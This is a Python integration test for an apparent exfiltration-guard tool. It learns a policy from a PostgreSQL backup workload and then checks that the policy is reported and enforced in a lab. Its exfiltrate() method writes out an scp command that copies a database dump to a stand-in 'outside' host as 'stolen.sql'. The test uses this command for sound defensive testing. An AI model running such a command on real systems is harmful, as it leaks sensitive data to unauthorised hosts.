# Copyright (c) 2026 the exfil.guard authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""From watching to enforcing, with a real workload: PostgreSQL under pgbench on db1, and a dump of it that its own user brings to
web1 over ssh. The policy that is learned lets all of that pass, and the same user does not get the dump to another machine."""

import json
import os
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from machines import MACHINES, ROOT, SSH_CONFIG, Lab, wait

BACKUP_HOST, ELSEWHERE = "192.168.157.11", "192.168.157.200"  # web1, and outside, which plays the internet
DUMP = "/srv/dumps/shop.sql"
SENSITIVE = {"shop": ["/var/lib/postgresql/**", "/srv/dumps/**"]}
SECONDS = 480  # of observing; the workload goes on all the while, and has to be done once within
SSH = "-q -B -o StrictHostKeyChecking=accept-new -o ConnectTimeout=60 -i ~dumper/.ssh/id_ed25519"

PREPARE = """
set -e
id dumper >/dev/null 2>&1 || useradd -m -s /bin/bash dumper
install -d -m 0700 -o dumper -g dumper /srv/dumps ~dumper/.ssh
[ -e ~dumper/.ssh/id_ed25519 ] || runuser -u dumper -- ssh-keygen -q -t ed25519 -N '' -f ~dumper/.ssh/id_ed25519
pg_lsclusters -h | grep -q '^15 *main ' || pg_createcluster 15 main --start-conf=manual --locale C.UTF-8 -- --no-sync >/dev/null
printf 'shared_buffers = 16MB\\nmax_connections = 20\\nlisten_addresses = \\047\\047\\n' >/etc/postgresql/15/main/conf.d/lab.conf
systemctl start postgresql@15-main.service
cd /
runuser -u postgres -- psql -qAt -c "select 1 from pg_roles where rolname = 'dumper'" | grep -q 1 ||
    runuser -u postgres -- psql -q -c "create role dumper login in role pg_read_all_data"
runuser -u postgres -- psql -qAt -c "select 1 from pg_database where datname = 'shop'" | grep -q 1 ||
    { runuser -u postgres -- createdb shop; runuser -u postgres -- pgbench -q -i -s 1 shop >/dev/null 2>&1; }
cat ~dumper/.ssh/id_ed25519.pub
"""
RECEIVE = """
set -e
id vault >/dev/null 2>&1 || useradd -m -s /bin/sh vault
install -d -m 0700 -o vault -g vault ~vault/.ssh
cat >~vault/.ssh/authorized_keys
chown vault: ~vault/.ssh/authorized_keys
chmod 0600 ~vault/.ssh/authorized_keys
rm -f ~vault/*.sql
"""
REMOVE = """
systemctl stop postgresql@15-main.service
pg_dropcluster 15 main
rm -rf /srv/dumps
userdel -rf dumper 2>/dev/null || :
"""


class Shop:
    """The workload, each part as whoever does it."""

    def __init__(self, lab: Lab) -> None:
        self.lab = lab

    def prepare(self):
        key = self.lab.ssh("db1", "sudo sh -s", input=PREPARE).splitlines()[-1]
        assert key.startswith("ssh-ed25519 "), key
        for machine in ("web1", "outside"):
            self.lab.ssh(machine, "sudo sh -c '%s'" % RECEIVE.replace("'", "'\\''"), input=key + "\n")

    def remove(self):
        self.lab.ssh("db1", "sudo sh -s", input=REMOVE)
        for machine in ("web1", "outside"):
            self.lab.ssh(machine, "sudo userdel -rf vault 2>/dev/null || :")

    def as_user(self, user, command):
        """Exit status and output."""
        done = subprocess.run(
            ["ssh", "-F", str(SSH_CONFIG), "db1", "cd / && sudo runuser -u %s -- sh -c '%s'" % (user, command)],
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            check=False,
            timeout=300,
        )
        return done.returncode, done.stdout

    def restart(self):
        """What starts a database reads its files, too."""
        self.lab.ssh("db1", "sudo systemctl restart postgresql@15-main.service")

    def work(self):
        """All of it has to succeed, and the dump to arrive whole."""
        for user, command in (
            ("postgres", "pgbench -n -c 2 -t 20 shop"),
            ("postgres", "psql -q -c checkpoint shop"),
            ("dumper", "pg_dump -f %s shop" % DUMP),
            ("dumper", "scp %s %s vault@%s:shop.sql" % (SSH, DUMP, BACKUP_HOST)),
        ):
            code, text = self.as_user(user, command)
            assert code == 0, f"{command} as {user} ended with {code}:\n{text}"
        sent, there = (
            self.lab.ssh("db1", "sudo sha256sum " + DUMP),
            self.lab.ssh("web1", "sudo sha256sum ~vault/shop.sql"),
        )
        assert sent.split()[0] == there.split()[0]

    def exfiltrate(self):
        """The same user, the same program, another machine. Whether the dump is there."""
        self.lab.ssh("outside", "sudo rm -f ~vault/stolen.sql")
        self.as_user("dumper", "scp %s %s vault@%s:stolen.sql" % (SSH, DUMP, ELSEWHERE))
        return self.lab.ssh("outside", "sudo test -s ~vault/stolen.sql && echo there || echo nothing") == "there"

    def read_by_another_program(self):
        return self.as_user("dumper", "head -c 1 %s >/dev/null" % DUMP)[0] == 0


@pytest.fixture(name="shop")
def fixture_shop(lab):
    found = Shop(lab)
    found.prepare()
    yield found
    for path in (lab.folder / "policies" / "hosts").glob("*"):
        path.unlink()
    done = lab.playbook("site.yml")
    found.remove()
    assert done.code == 0, done.text


def observe_at_work(lab, shop):
    """Runs the observation, and the workload until it is over; how often that was."""
    command = [
        str(Path(sys.executable).with_name("ansible-playbook")),
        "-i",
        str(lab.folder / "hosts.yml"),
        "exfil.guard.observe",
        "-e",
        "exfil_guard_hosts=db",
        "-e",
        "exfil_guard_observe_seconds=%d" % SECONDS,
    ]
    with open(lab.folder / "observe.log", "w") as log:
        observing = subprocess.Popen(
            command,
            stdout=log,
            stderr=subprocess.STDOUT,
            cwd=ROOT,
            env=dict(os.environ, ANSIBLE_CONFIG=str(ROOT / "ansible.cfg"), NO_COLOR="1"),
        )
        rounds = 0
        try:
            while observing.poll() is None:
                shop.restart()
                shop.work()
                rounds += 1
                time.sleep(2)
        finally:
            if observing.poll() is None:
                observing.terminate()
            code = observing.wait(120)
    assert code == 0, (lab.folder / "observe.log").read_text()
    return rounds


def learned(lab):
    """Of the rules in force, those that are about the workload: denied and reported."""
    return {
        rule["name"]: (rule["denied"], rule["audited"])
        for rule in lab.status("db1")["rules"]
        if rule["name"].startswith(("db: shop is ", "db: dumper reaches "))
    }


def test_what_is_learned_lets_the_work_pass_and_nothing_else(lab, shop):
    shop.work()
    assert shop.exfiltrate() and shop.read_by_another_program()  # today's policy is not about it

    assert observe_at_work(lab, shop) > 0
    seen = [json.loads(line) for line in (lab.folder / "observed" / "db1.jsonl").read_text().splitlines()]
    assert any(line.get("address") == BACKUP_HOST and line.get("user") == "dumper" for line in seen)

    variables = lab.folder / "learn.json"
    variables.write_text(
        json.dumps(
            {
                "exfil_guard_hosts": "db",
                "exfil_guard_learn_resources": SENSITIVE,
                "exfil_guard_learn_unbound": ["systemd-networkd.service"],
            }
        )
    )  # a lease is renewed seldom
    proposal = lab.folder / "learned-db.yml.j2"
    found = lab.playbook("exfil.guard.learn", "-e", "@%s" % variables, "--check", "--diff")
    assert found.code == 0 and not proposal.exists(), found.text
    found = lab.playbook("exfil.guard.learn", "-e", "@%s" % variables)
    assert found.code == 0 and " 0 would be denied" in " ".join(found.text.split()), found.text
    assert proposal.stat().st_mode & 0o777 == 0o600
    text = proposal.read_text()

    # what a reviewer looks for: who may read the data, and where its user may go
    assert "services: [postgresql@15-main.service]" in text and "/usr/bin/scp" in text and BACKUP_HOST + "/32" in text
    assert ELSEWHERE not in "".join(line for line in text.splitlines(True) if not line.lstrip().startswith("#"))

    place = lab.folder / "policies" / "hosts" / "db1.yml.j2"
    place.parent.mkdir(exist_ok=True)
    place.write_text(text)
    found = lab.playbook("site.yml", "--limit", "db")
    assert found.code == 0, found.text
    before = learned(lab)
    assert before
    shop.work()
    assert learned(lab) == before, "what was seen is reported: {0}".format(
        lab.ssh("db1", "sudo exfil-guard why --limit 5")
    )
    assert shop.exfiltrate() and shop.read_by_another_program()  # the control: it passes, and is reported
    after = learned(lab)
    assert {name for name in after if after[name][1] > before[name][1]} == {
        "db: dumper reaches only what was seen",
        "db: shop is read by those that were seen to read it",
    }

    place.write_text(text.replace('{% set learned_mode = "audit" %}', '{% set learned_mode = "enforce" %}'))
    assert place.read_text() != text
    found = lab.playbook("site.yml", "--limit", "db")
    assert found.code == 0, found.text
    before = learned(lab)
    shop.work()
    assert learned(lab) == before, "what was seen is denied: {0}".format(
        lab.ssh("db1", "sudo exfil-guard why --limit 5")
    )
    assert not shop.exfiltrate() and not shop.read_by_another_program()
    assert lab.may("db1", "alice", "read:" + DUMP) in ("denied", "EACCES")
    after = learned(lab)
    assert {name for name in after if after[name][0] > before[name][0]} >= {
        "db: dumper reaches only what was seen",
        "db: shop is read by those that were seen to read it",
    }
    shop.restart()
    shop.work()


FILE = "/srv/exports/customers.csv"
REPORTED = {"web1": ("read:" + FILE, "tcp:192.168.157.200:443"), "db1": ("read:" + FILE, "tcp:192.168.157.11:8080")}


@pytest.fixture(name="reporting")
def fixture_reporting(lab):
    """Both machines only report, and keep an audit trail."""
    play = lab.folder / "audit.json"
    play.write_text(
        json.dumps(
            [
                {
                    "name": "Keep an audit trail",
                    "hosts": "guarded",
                    "gather_facts": False,
                    "become": True,
                    "tasks": [{"name": "The trail", "ansible.builtin.include_role": {"name": "exfil.guard.audit"}}],
                }
            ]
        )
    )
    for arguments in ((str(play),), ("site.yml", "-e", "policy_mode=audit")):
        done = lab.playbook(*arguments)
        assert done.code == 0, done.text
    yield lab
    shutil.rmtree(lab.folder / "policies")
    shutil.copytree(ROOT / "inventories" / "lab" / "policies", lab.folder / "policies")
    for arguments in ((str(play), "-e", "exfil_guard_state=absent"), ("site.yml",)):
        done = lab.playbook(*arguments)
        assert done.code == 0, done.text


def test_what_audit_mode_reported_of_a_group(reporting):
    lab = reporting
    for machine, attempts in REPORTED.items():
        for what in attempts:
            assert lab.may(machine, "alice", what) == "ok"
    for machine, attempts in REPORTED.items():
        wait(
            60,
            lambda machine=machine, attempts=attempts: (
                int(
                    lab.ssh(
                        machine,
                        "sudo journalctl -q -o json _SYSTEMD_UNIT=exfil-guard-audit.service EXFIL_GUARD_VERDICT=audit EXFIL_GUARD_USER=alice"
                        " | wc -l",
                    )
                )
                >= len(attempts)
            ),
            "it is reported",
        )
    variables = lab.folder / "learn.json"
    variables.write_text(
        json.dumps(
            {
                "exfil_guard_hosts": "guarded",
                "exfil_guard_learn_from": "audit",
                "exfil_guard_learn_resources": {"exports": ["/srv/exports/**"]},
                "exfil_guard_learn_since": "-10min",
                "exfil_guard_learn_unbound": ["systemd-networkd.service"],
                "policy_mode": "audit",
            }
        )
    )
    proposal = lab.folder / "learned-guarded.yml.j2"
    told = lab.playbook("exfil.guard.learn", "-e", "@%s" % variables, "--check", "--diff")
    assert told.code == 0 and not proposal.exists(), told.text
    found = lab.playbook("exfil.guard.learn", "-e", "@%s" % variables)
    assert found.code == 0 and " 0 would be denied" in " ".join(found.text.split()), found.text
    text = proposal.read_text()
    print(text)
    added = re.findall(r"^\+(?!\+\+ )(.*)$", told.text, re.MULTILINE)
    assert added == text.splitlines()  # check mode told it line by line
    assert lab.playbook("exfil.guard.learn", "-e", "@%s" % variables).text.count("changed=0") == len(MACHINES)

    # in force in place of what reported, and enforced
    for path in (lab.folder / "policies").glob("*.j2"):
        path.unlink()
    (lab.folder / "policies" / "guarded.yml.j2").write_text(text.replace("mode: audit", "mode: enforce"))
    done = lab.playbook("site.yml")
    assert done.code == 0, done.text
    for machine, attempts in REPORTED.items():
        for what in attempts:
            assert lab.may(machine, "alice", what) == "ok", (machine, what)
        assert lab.may(machine, "alice", "write:" + FILE) == "denied"
        assert lab.may(machine, "bob", "read:" + FILE) == "denied"
        assert lab.may(machine, "alice", "tcp:[fd57:e9::200]:443") == "denied"
        another = lab.ssh(machine, f"sudo -u alice cat {FILE} >/dev/null 2>&1 && echo ok || echo denied")
        assert another == "denied"  # by another program
        assert lab.may(machine, "dora", "read:" + FILE) == "ok"  # whom the rule excepted
